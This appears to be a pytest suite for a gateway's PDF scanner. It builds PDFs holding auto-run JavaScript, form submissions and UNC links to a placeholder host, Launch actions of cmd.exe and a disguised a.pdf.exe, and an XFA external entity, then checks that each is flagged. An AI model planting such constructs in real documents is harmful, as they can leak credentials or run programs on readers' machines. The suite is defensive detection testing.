from __future__ import annotations

import io

import pikepdf
import pytest

from gateway.extract.base import Problem
from gateway.extract.bounded import LimitReached
from gateway.extract.pdf import actions as pdfactions
from gateway.extract.pdf.document import PDF
from tests.builders.archives import codes, take_apart
from tests.builders.documents import pdf


def test_automatic_follows_next_and_ends_in_loops() -> None:
    data = pdf("/OpenAction 6 0 R", ("<< /S /GoTo /Next 7 0 R >>", "<< /S /GoTo /Next 6 0 R >>"))
    with pikepdf.open(io.BytesIO(data)) as document:
        assert {(6, 0), (7, 0)} <= pdfactions.automatic(document)


SUBMITS = "<< /S /SubmitForm /F (http://h.example/a) >>"


def test_the_last_page_annotation_and_action_start_by_themselves(monkeypatch: pytest.MonkeyPatch) -> None:
    with pikepdf.new() as document:
        for _ in range(2100):
            document.add_blank_page(page_size=(9, 9))
        document.pages[-1].obj.AA = pikepdf.Object.parse(f"<< /O {SUBMITS} >>".encode())
        document.save(out := io.BytesIO())
    assert "PDF-SUBMIT-AUTO" in codes(take_apart(PDF, out.getvalue()))
    notes = "<< /Subtype /Text /Rect [0 0 9 9] >> " * 1100 + f"<< /Subtype /Screen /Rect [0 0 9 9] /AA << /PO {SUBMITS} >> >>"
    assert "PDF-SUBMIT-AUTO" in codes(take_apart(PDF, pdf(page=f"/Annots [{notes}]")))
    chain = pdf(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{'<< /S /Named /N /FirstPage >> ' * 120}{SUBMITS}] >>")
    found = take_apart(PDF, chain)
    assert "PDF-SUBMIT-AUTO" in codes(found) and not [p for p in found if isinstance(p, Problem)]
    monkeypatch.setattr(pdfactions, "MOST", 100)
    assert [p.code.value for p in take_apart(PDF, chain) if isinstance(p, Problem)] == ["COUNT"]


def test_text_strings() -> None:
    assert pdfactions._decode(b"\xfe\xff\x5b\xa2") == "客" and pdfactions._decode("客".encode()) == "客" and pdfactions._decode("客戶".encode("cp950")) == "客戶"


ALERT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def link(action: str) -> bytes:
    return pdf(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>]")


OUTLINE = pdf("/Outlines 6 0 R", ("<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", f"<< /Title (x) /Parent 6 0 R /A {ALERT} >>"))


@pytest.mark.parametrize(("data", "code"), [
    (link(ALERT), "PDF-SCRIPT-ACTS"), (OUTLINE, "PDF-SCRIPT-ACTS"), (OUTLINE.replace(b"/Parent 6 0 R", b"/Count 00000 "), "PDF-SCRIPT-ACTS"), (link("<< /S /Rendition /JS (app.alert\\(1\\)) >>"), "PDF-SCRIPT-ACTS"),
    (link("<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), "DOC-LINK-PROGRAM"),
    (link("<< /S /URI /URI (ms-photos:viewer?fileName=\\\\\\\\h.example\\\\a.png) >>"), "PDF-REMOTE-SHARE"),
    (link("<< /S /SubmitForm /F (\\\\\\\\h.example\\\\s) >>"), "PDF-REMOTE-SHARE"),
    (link("<< /S /ImportData /F (\\\\\\\\h.example\\\\s\\\\a.fdf) >>"), "PDF-REMOTE-SHARE"),
    (pdf("/AcroForm << /XFA (<?xml-stylesheet href=\"\\\\\\\\h.example\\\\x.xslt\"?><xdp:xdp/>) >>"), "PDF-REMOTE-SHARE"),
    (pdf("/AcroForm << /XFA (<!DOCTYPE x [<!ENTITY a SYSTEM \"http://h\">]><xdp:xdp/>) >>"), "PDF-XFA-ENTITY"),
])
def test_actions_in_places_without_forms(data: bytes, code: str) -> None:
    assert code in codes(take_apart(PDF, data, "a.pdf"))


def test_a_button_of_a_form_may_talk() -> None:
    data = pdf(page=f"/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A {ALERT} >>]")
    assert "PDF-SCRIPT-ACTS" not in codes(take_apart(PDF, data, "a.pdf"))


@pytest.mark.parametrize(("trigger", "script", "held"), [
    ("K", "app.alert('x');", True), ("Fo", "app.alert({cMsg: 'x', nIcon: 3})", True), ("U", "app.alert('x');", False),
    ("V", "if (event.value == '') app.alert('x');", False), ("C", "var a = 1; app.alert(a);", False),
])
def test_fields_that_talk_whatever_is_typed(trigger: str, script: str, held: bool) -> None:
    action = f"<< /S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>"
    data = pdf(page=f"/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (b) /Rect [0 0 9 9] /AA << /{trigger} {action} >> >>]")
    assert ("PDF-SCRIPT-ACTS" in codes(take_apart(PDF, data, "a.pdf"))) == held


@pytest.mark.parametrize(("kids", "held"), [("6 0 R 6 0 R 6 0 R", True), ("7 0 R 8 0 R", False)])
def test_name_trees_that_lead_back_to_themselves(kids: str, held: bool) -> None:
    objects = (f"<< /Kids [{kids}] >>", "<< /Names [(a) 9 0 R] >>", "<< /Names [(b) 9 0 R] >>", "<< /S /JavaScript /JS (var a = 1;) >>")
    assert ("DEPTH" in codes(take_apart(PDF, pdf("/Names << /JavaScript 6 0 R >>", objects), "a.pdf"))) == held


SCRIPT = "<< /S /JavaScript /JS (var a = 1; go\\(a\\)) >>"


def test_a_link_is_known_as_one_after_its_action_too() -> None:
    """Objects come by their number: the action may stand before the link that names it."""
    page = "/Annots [7 0 R]"
    link_last = pdf(page=page, objects=(SCRIPT, "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>"))
    field_last = pdf(page=page, objects=(SCRIPT, "<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A 6 0 R >>"))
    assert "PDF-SCRIPT-AUTO" in codes(take_apart(PDF, link_last, "a.pdf"))
    assert "PDF-SCRIPT-AUTO" not in codes(take_apart(PDF, field_last, "a.pdf"))


SHARE, LOCAL = r"(\\\\\\\\h.example\\\\s\\\\a)", "(annex.dat)"


@pytest.mark.parametrize("holder", [
    "<< /Type /Filespec /F {} >>", "<< /S /MCD /CT (video/x) /D << /Type /Filespec /F {} >> >>", "<< /Length 0 /F {} >>\nstream\n\nendstream",
    "<< /Type /XObject /Subtype /Form /Ref << /F << /F {} >> /Page 0 >> /Length 0 >>\nstream\n\nendstream",
])
def test_files_on_shares_are_seen_wherever_they_are_named(holder: str) -> None:
    assert "PDF-REMOTE-SHARE" in codes(take_apart(PDF, pdf(objects=(holder.format(SHARE),)), "a.pdf"))
    assert not codes(take_apart(PDF, pdf(objects=(holder.format(LOCAL),)), "a.pdf"))


def test_scripts_of_three_dimensional_drawings() -> None:
    data = pdf(objects=("<< /Type /3D /Subtype /U3D /OnInstantiate 7 0 R /Length 0 >>\nstream\n\nendstream",
                        "<< /Length 14 >>\nstream\nscene.update();\nendstream"))
    assert "PDF-SCRIPT-AUTO" in codes(take_apart(PDF, data, "a.pdf"))


@pytest.mark.parametrize("action", ["<< /S /GoToE /F << /FS /URL /F (http://h.example/a.pdf) >> >>", "<< /S /GoToR /F (http://h.example/a.pdf) >>"])
def test_documents_elsewhere_that_open_by_themselves(action: str) -> None:
    assert "PDF-LINK-AUTO" in codes(take_apart(PDF, pdf(f"/OpenAction {action}"), "a.pdf"))
    clicked = pdf(page=f"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A {action} >>]")
    assert "PDF-LINK-AUTO" not in codes(take_apart(PDF, clicked, "a.pdf"))


@pytest.mark.parametrize("target", ["part2.pdf", "../2006/SDW2006.PDF", "附件/合約書.pdf"])
def test_another_document_of_the_set_is_a_link(target: str) -> None:
    named = ("\ufeff" + target).encode("utf-16-be").hex()
    assert "PDF-LAUNCH" not in codes(take_apart(PDF, link(f"<< /S /Launch /F <{named}> >>"), "a.pdf"))


@pytest.mark.parametrize("action", [
    "<< /S /Launch /F (cmd.exe) >>", "<< /S /Launch /F (cmd) /P (a.pdf) >>", "<< /S /Launch /Win << /F (cmd.exe) /P (/c a.pdf) >> >>",
    "<< /S /Launch /F (a.pdf.exe) >>", "<< /S /Launch /F (C:/x/a.pdf) >>", "<< /S /Launch /F (//h.example/a.pdf) >>"])
def test_anything_else_that_is_launched(action: str) -> None:
    assert {"PDF-LAUNCH", "PDF-REMOTE-SHARE"} & codes(take_apart(PDF, link(action), "a.pdf"))


def test_keys_in_any_charset() -> None:
    data = link("<< /S /JavaScript /JS (app.launchURL\\('http://h.example'\\)) >>").replace(b"/Subtype /Link", b"/AP << /N << /A#80B 5 0 R >> >> /Subtype /Link")
    found = take_apart(PDF, data, "a.pdf")
    assert "PDF-SCRIPT-ACTS" in codes(found) and not [y for y in found if isinstance(y, Problem)]


def test_packets_of_a_form_that_are_called_embedded_files() -> None:
    packets = ("<< /Type /EmbeddedFile /Length 43 >>\nstream\n<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>\nendstream",
               "<< /Type /EmbeddedFile /Length 10 >>\nstream\n</xdp:xdp>\nendstream")
    found = take_apart(PDF, pdf("/AcroForm << /XFA [(preamble) 6 0 R (postamble) 7 0 R] >>", packets), "a.pdf")
    assert "PDF-XFA" in codes(found) and "PDF-EMBEDDED" not in codes(found)


@pytest.mark.parametrize(("catalog", "held"), [
    ("/URI << /Base (file://h.example/s/) >>", True), ("/URI << /Base (https://h.example/) >>", False),
    ("/X << /S /MCD /D (\\\\\\\\h.example\\\\s\\\\a.mp4) >>", True), ("/X << /S /MCD /D (a.mp4) >>", False), ("/X << /Type /SVCert /URL (\\\\\\\\h.example\\\\a) >>", True),
    ("/X << /Type /SVCert /URL (https://h.example/ca) >>", False),
])
def test_shares_by_other_names(catalog: str, held: bool) -> None:
    assert ("PDF-REMOTE-SHARE" in codes(take_apart(PDF, pdf(catalog), "a.pdf"))) == held


@pytest.mark.parametrize("kind", ["/Launch", "/JavaScript"])
def test_the_kind_of_an_action_may_stand_elsewhere(kind: str) -> None:
    data = pdf("/OpenAction 6 0 R", ("<< /S 7 0 R /F 8 0 R /JS 9 0 R >>", kind, "(cmd.exe)", "(app.launchURL\\('http://h.example'\\))"))
    assert codes(take_apart(PDF, data, "a.pdf")) & {"PDF-LAUNCH", "PDF-SCRIPT-ACTS"}


@pytest.mark.parametrize(("relation", "payload", "sealed"), [
    ("EncryptedPayload", b"\x01\x02 octets", True), ("EncryptedPayload", pdf(), False), ("Data", b"\x01\x02 octets", False)])
def test_a_cover_of_what_nobody_can_read(relation: str, payload: bytes, sealed: bool) -> None:
    stream = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(payload), payload)
    data = pdf("/AF [6 0 R]", (f"<< /Type /Filespec /F (a.pdf) /AFRelationship /{relation} /EF << /F 7 0 R >> >>", stream))
    found = take_apart(PDF, data, "a.pdf")
    assert any(isinstance(item, Problem) and "rights" in item.detail for item in found) == sealed


@pytest.mark.parametrize("words", [pdfactions.SCRIPT // 12, pdfactions.SCRIPT // 6])
def test_what_stands_behind_a_long_beginning_of_a_script_is_not_left_out(words: int) -> None:
    script = "/* " + "words " * words + "*/ app.launchURL('https://h.example/x', true);"
    document = pdf(f"/OpenAction << /S /JavaScript /JS ({script.replace('(', '[').replace(')', ']')}) >>".replace("[", r"\(").replace("]", r"\)"))
    if len(script) <= pdfactions.SCRIPT:
        assert "PDF-SCRIPT-ACTS" in codes(take_apart(PDF, document, "a.pdf"))
    else:
        with pytest.raises(LimitReached, match="script"):
            take_apart(PDF, document, "a.pdf")
